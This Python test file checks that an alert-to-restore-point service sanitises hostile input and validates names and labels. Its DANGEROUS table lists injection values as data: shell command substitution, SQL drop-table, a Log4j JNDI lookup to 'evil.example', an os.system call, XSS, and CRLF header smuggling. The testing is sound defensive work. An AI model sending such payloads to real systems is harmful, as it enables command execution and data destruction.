"""What becomes of text that is taken: reliability.md, 6.3, H29 and H31 to H36."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable
from typing import Any

import pytest

from handlers.sandbox import estate
from tests.hostile.rows import Rows
from tests.hostile.stage import PLATFORMS, Stage, asked, firing
from tests.messages.reading import reads

rows = Rows(
    named={
        "H33": [
            "tests/test_vault_backup.py::test_every_name_fits_and_finds_its_cause_again",
            "tests/test_plan.py::test_names_and_descriptions_are_held_to_the_apis_limits",
        ],
        "H34": ["tests/test_wire.py::test_a_header_value_that_no_header_may_hold_sends_nothing"],
        "H35": ["tests/test_plan.py::test_no_two_lists_of_words_are_written_alike"],
    },
    waiting={},
)
Fresh = Callable[..., Stage]
ERP = estate.ERP_VAULT_ID
NAME = re.compile(r"[A-Za-z0-9_-]{1,58}")

# ── what becomes of text that is taken ──

DANGEROUS = {
    "H29 a zero-width space": "a\u200bb",
    "H29 from right to left": "\u202egnp.exe",
    "H29 combining marks": "a" + "\u0301" * 50,
    "H29 emoji": "\U0001f600" * 10,
    "H31 a way up": "../../x",
    "H31 a path": "a/b",
    "H31 an option": "-rf",
    "H31 a shell's": "$(id)`id`;id|id&id",
    "H31 SQL's": "'; DROP TABLE wishes; --",
    "H31 a template's": "{{7*7}}",
    "H31 Python's": "{0.__class__}{self}%(x)s",
    "H31 C's": "%s%n%x",
    "H31 a logger's": "${jndi:ldap://evil.example/x}",
    "H31 a name of an object": "__import__('os').system('id')",
    "H32 a script": "<script>alert(1)</script>",
    "H34 a header": "x\r\nX-Injected: 1\r\n\r\nGET / HTTP/1.1\r\n",
    "H34 a header behind a line feed": "x\nX-Injected: 1",
    "H33 of 300 characters": "x" * 300,
}


@rows.cases("text", DANGEROUS)
def test_text_is_data_in_everything_that_leaves(fresh: Fresh, text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """The cloud gets a computed name, a description of plain ASCII and no header of it; the log and the topic stay whole."""
    made = fresh(told=True)
    body = firing(alertname=text, extra=text, **{text[:100]: "x"}) | {"groupKey": text, "externalURL": text, "receiver": text}
    body["alerts"][0] |= {"annotations": {"summary": text, text: text}, "fingerprint": text}
    assert made.ask("lambda", "/alert/am", body).words == ["created"]
    (post,) = made.posts()
    sent = post.body["checkpoint"]
    assert NAME.fullmatch(sent["parameters"]["name"])
    assert set(sent["parameters"]) == {"name", "description"}
    assert sent["parameters"]["description"].isascii()
    assert not set("<>\r\n") & set(sent["parameters"]["description"])
    assert sent["vault_id"] == ERP
    heads = bytes(made.line.sent).split(b"\r\n")
    assert not [each for each in heads if each.lower().startswith((b"x-injected", b"get / http"))]
    for message in made.sandbox.published:
        assert message["subject"].isascii()
        assert message["subject"].isprintable()
        assert all(reads(line) for line in message["message"].split("\n"))
    written = capsys.readouterr()
    assert written.err == ""
    assert written.out.isascii()
    assert [json.loads(line)["service"] for line in written.out.splitlines()] == ["restore-point"] * 2


@rows.cases("text", {f"{name}, asked for": text for name, text in DANGEROUS.items()})
def test_no_such_text_becomes_a_name_or_a_key(stage: Stage, text: str) -> None:
    with stage.nothing_leaves():
        bodies: list[dict[str, Any]] = [asked(name=text), {"rule": text}, asked(resources=[text]), asked() | {text: 1}]
        if not text.isascii() or "\n" in text or len(text) > 255:
            bodies.append(asked() | {"idempotency_key": text})
        for body in bodies if text != "-rf" else bodies[1:]:  # a name the API would take
            for said in stage.everywhere("/once/ci", body):
                assert said.status == 400, body
                assert said.text.isascii()


@rows("H32")
def test_annotations_never_reach_the_cloud(fresh: Fresh) -> None:
    made = fresh()
    body = firing()
    body["alerts"][0]["annotations"] = {"summary": "CANARY-ONE", "description": "<script>CANARY-TWO</script>"}
    body |= {"commonAnnotations": {"summary": "CANARY-THREE"}}
    assert made.ask("functiongraph", "/alert/am", body).words == ["created"]
    assert b"CANARY" not in bytes(made.line.sent)


@rows("H29", "H32")
def test_the_topic_gets_plain_text(fresh: Fresh) -> None:
    made = fresh(told=True)
    body = firing(alertname="a\u202eb<b>\n\nOutcome: available")
    assert made.ask("lambda", "/alert/am", body).words == ["created"]
    (message,) = made.sandbox.published
    text = message["message"]
    assert text.isascii()
    assert "<b>" not in text
    assert "\nOutcome: available" not in text


# ── names ──

GIVEN: dict[str, tuple[str, int]] = {
    "H33 none": ("", 400),
    "H33 65 characters": ("n" * 65, 400),
    "H33 a megabyte less a little": ("n" * 1_000_000, 400),
    "H33 a blank": ("a b", 400),
    "H33 a dot": ("a.b", 400),
    "H33 not ASCII": ("caf\u00e9", 400),
    "H33 a line break behind it": ("name\n", 400),
}


@rows.cases("case", GIVEN)
def test_a_name_the_api_does_not_take_is_refused(stage: Stage, case: tuple[str, int]) -> None:
    with stage.nothing_leaves():
        for said in stage.everywhere("/once/ci", asked(name=case[0])):
            assert (said.status, said.reasons) == (case[1], ["malformed"])


@rows("H33")
@pytest.mark.parametrize("name", ["n" * 64, "n", "-", "x-0001", "x-08b581ff073d1d79-0001", "-" * 64])
def test_any_other_is_clipped_and_carries_the_cause(fresh: Fresh, name: str) -> None:
    made = fresh()
    assert made.ask("lambda", "/once/ci", asked(name=name)).words == ["created"]
    (post,) = made.posts()
    sent = post.body["checkpoint"]["parameters"]["name"]
    assert len(sent) <= 58
    assert re.fullmatch(r"[A-Za-z0-9_-]+-[0-9a-f]{16}", sent)


# ── causes ──

CAUSES: dict[str, tuple[dict[str, str], dict[str, str], int]] = {
    "H35 a comma in a value": ({"a": "b,c"}, {"a": "b", "c": ""}, 2),
    "H35 the border moved": ({"ab": "c"}, {"a": "bc"}, 2),
    "H35 a name in a value": ({"a": "b", "c": "d"}, {"a": "b=c=d", "c": ""}, 2),
    "H35 lengths that look alike": ({"a": "1:b"}, {"a": "1", "b": ""}, 2),
    "H35 two values changed places": ({"a": "x", "b": "y"}, {"a": "y", "b": "x"}, 2),
    "H35 an empty label": ({"a": "x"}, {"a": "x", "b": ""}, 2),
    "H36 another order": ({"a": "x", "b": "y"}, {"b": "y", "a": "x"}, 1),
    "H36 another form": ({"a": unicodedata.normalize("NFC", "caf\u00e9")}, {"a": unicodedata.normalize("NFD", "caf\u00e9")}, 2),
    "H36 a compatible letter": ({"a": "\ufb01"}, {"a": "fi"}, 2),
    "H36 another case": ({"a": "X"}, {"a": "x"}, 2),
}


@rows.cases("case", CAUSES)
def test_two_alerts_are_as_many_causes_as_they_are(
    fresh: Fresh, capsys: pytest.CaptureFixture[str], case: tuple[dict[str, str], dict[str, str], int]
) -> None:
    made = fresh()
    one, other, wanted = case
    body = firing(one | {"severity": "critical"}, other | {"severity": "critical"})
    if list(one) != list(other):  # the one as it came, the other as its keys are sorted by whoever writes JSON
        body["alerts"][1]["labels"] = dict(reversed(body["alerts"][1]["labels"].items()))
    assert made.ask("lambda", "/alert/am", body).words == ["created"]
    line = next(each for each in map(json.loads, capsys.readouterr().out.splitlines()) if "restore_points" in each)
    assert line["restore_points"][0]["causes"] == wanted
    assert len(made.posts()) == 1


@rows("H36")
@pytest.mark.parametrize("platform", PLATFORMS[1:])
def test_the_same_labels_in_another_order_are_one_restore_point(fresh: Fresh, platform: str) -> None:
    made = fresh()
    labels = {"alertname": "A", "host": "erp-db", "severity": "critical"}
    first, second = (made.ask(platform, "/alert/am", firing(each)) for each in (labels, dict(reversed(labels.items()))))
    assert (first.words, second.words) == (["created"], ["joined"])
    assert len(made.posts()) == 1
